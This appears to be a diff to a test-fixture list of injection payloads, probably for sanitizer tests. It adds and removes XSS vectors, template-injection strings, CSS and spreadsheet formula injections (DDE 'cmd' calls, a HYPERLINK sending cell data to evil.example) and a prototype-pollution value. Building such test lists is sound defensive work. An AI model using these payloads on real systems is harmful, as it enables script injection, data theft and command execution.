@@ -16,10 +16,8 @@ ELEMENTS = [
     f"<script type=module>{_RUNS}</script>",
     f"<img src=x onerror={_RUNS}>",
     f"<img/src='x'/onerror='{_RUNS}'>",
-    f"<IMG SRC=x OnErRoR={_RUNS}>",
     '<img src="https://evil.example/beacon.gif">',
     f"<svg onload={_RUNS}>",
-    f"<svg/onload={_RUNS}>",
     f"<svg><script>{_RUNS}</script></svg>",
     f"<svg><animate onbegin={_RUNS} attributeName=x dur=1s>",
     f"<svg><a xlink:href='javascript:{_RUNS}'><text y=20>x</text></a></svg>",
@@ -51,7 +49,7 @@ ELEMENTS = [
     f"<div onpointerenter={_RUNS} style='position:fixed;inset:0'>x</div>",
     f"<template><script>{_RUNS}</script></template>",
     f"<x contenteditable onblur={_RUNS}>x</x>",
-    f"<isindex type=image src=1 onerror={_RUNS}>",
+    f'<noscript><p title="</noscript><img src=x onerror={_RUNS}>">',
 ]
 
 # Ends of what the text may stand in: attribute, element, script, comment, JSON, template.
@@ -104,13 +102,14 @@ ADDRESSES = [
     "//evil.example/x.js",
 ]
 
-# Languages of templates and spreadsheets.
+# Languages of templates, style sheets and spreadsheets.
 TEMPLATES = [
     "{{ ''.__class__.__mro__ }}",
     "{% raw %}{% endraw %}{{ 7 * 7 }}",
     f"{{{{constructor.constructor('{_RUNS}')()}}}}",
     f"<%= {_RUNS} %>",
-    f"#{{{_RUNS}}}",
+    "#fff;background:url(https://evil.example/c)",
+    "a;=cmd|' /C calc'!A0",
     "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -126,6 +125,7 @@ STRANGE = [
     f"\uff1cscript\uff1e{_RUNS}\uff1c/script\uff1e",
     "__proto__",
     "constructor",
+    '{"__proto__": {"x": 1}}',
 ]
 
 PAYLOADS = [*ELEMENTS, *ENDS, *ADDRESSES, *TEMPLATES, *STRANGE]
